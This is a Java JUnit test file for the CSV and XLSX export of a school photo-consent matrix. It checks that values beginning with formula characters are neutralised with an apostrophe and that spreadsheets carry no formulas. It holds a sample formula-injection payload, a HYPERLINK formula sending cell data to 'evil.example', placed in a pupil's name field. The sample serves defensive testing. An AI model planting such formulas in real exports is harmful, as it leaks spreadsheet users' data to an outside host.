package zvonok.consent.evidence.rest;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneId;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.xml.sax.InputSource;
import org.xml.sax.SAXException;
import zvonok.consent.SchoolTime;
import zvonok.consent.evidence.domain.ConsentMatrix;
import zvonok.consent.evidence.domain.ConsentMatrix.Row;
import zvonok.consent.evidence.domain.ConsentMatrix.Status;
import zvonok.consent.roster.domain.Name;

class MatrixTableTest {

    private static final String ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")";
    private static final SchoolTime MOSCOW = new SchoolTime(ZoneId.of("Europe/Moscow"));
    private static final ConsentMatrix MATRIX = new ConsentMatrix(
            new UUID(1, 1),
            null,
            List.of(
                    new Row(
                            "5А",
                            new Name("Варвара", "Лаптева", null),
                            Status.GRANTED,
                            Instant.parse("2026-08-31T21:30:15Z"),
                            2,
                            1),
                    new Row("5А", new Name("@SUM(1)", ATTACK, "Ильич"), Status.PENDING, null, 1, 0)));

    @Test
    void csvIsUtf8WithAByteOrderMarkAndQuotedCells() {
        String[] lines = csv("ru").split("\r\n", -1);

        assertEquals(
                "\uFEFF\"Класс\";\"Фамилия\";\"Имя\";\"Отчество\";\"Фото и видео в чате класса\";\"С какого дня\";"
                        + "\"Кто может ответить\";\"Ответили\"",
                lines[0]);
        assertEquals("\"5А\";\"Лаптева\";\"Варвара\";\"\";\"согласие\";\"2026-09-01\";\"2\";\"1\"", lines[1]);
        assertTrue(csv("en").contains("\"5А\",\"Лаптева\",\"Варвара\",\"\",\"granted\",\"2026-09-01\",\"2\",\"1\""));
    }

    @Test
    void aNameThatIsAFormulaIsTextInCsv() {
        String line = csv("ru").split("\r\n", -1)[2];

        assertTrue(line.startsWith("\"5А\";\"'=HYPERLINK(\"\"http"), line);
        assertTrue(line.contains(";\"'@SUM(1)\";"), line);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\nx", "  =1", "＝1", "＋1", "－1", "＠A1"})
    void whatASpreadsheetWouldRunBeginsWithAnApostrophe(String cell) {
        assertEquals("'" + cell, MatrixTable.harmless(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "5А", "Римский-Корсаков", "О'Хара", " 5А", "1=1"})
    void whatItWouldNotRunStays(String cell) {
        assertEquals(cell, MatrixTable.harmless(cell));
    }

    @Test
    void xlsxHoldsStringsAndNumbersAndNoFormula(@TempDir Path directory)
            throws IOException, SAXException, ParserConfigurationException {
        Map<String, String> parts =
                parts(directory, MatrixTable.of(MATRIX, MOSCOW, Locale.of("ru")).xlsx());
        String sheet = Objects.requireNonNull(parts.get("xl/worksheets/sheet1.xml"));
        String texts = text(Objects.requireNonNull(parts.get("xl/sharedStrings.xml")));

        assertFalse(sheet.contains("<f>") || sheet.contains("<f "), sheet);
        assertTrue(texts.contains("Лаптева"), texts);
        assertTrue(texts.contains("=HYPERLINK("), texts);
        assertTrue(sheet.contains("<v>2</v>"), sheet);
    }

    private static String text(String xml) throws SAXException, ParserConfigurationException, IOException {
        return DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(new InputSource(new StringReader(xml)))
                .getDocumentElement()
                .getTextContent();
    }

    private static String csv(String language) {
        return new String(MatrixTable.of(MATRIX, MOSCOW, Locale.of(language)).csv(), UTF_8);
    }

    private static Map<String, String> parts(Path directory, byte[] xlsx) throws IOException {
        Path file = Files.write(directory.resolve("matrix.xlsx"), xlsx);
        Map<String, String> parts = new HashMap<>();
        try (ZipFile zip = new ZipFile(file.toFile())) {
            for (ZipEntry entry : Collections.list(zip.entries())) {
                try (InputStream part = zip.getInputStream(entry)) {
                    parts.put(entry.getName(), new String(part.readAllBytes(), UTF_8));
                }
            }
        }
        return parts;
    }
}
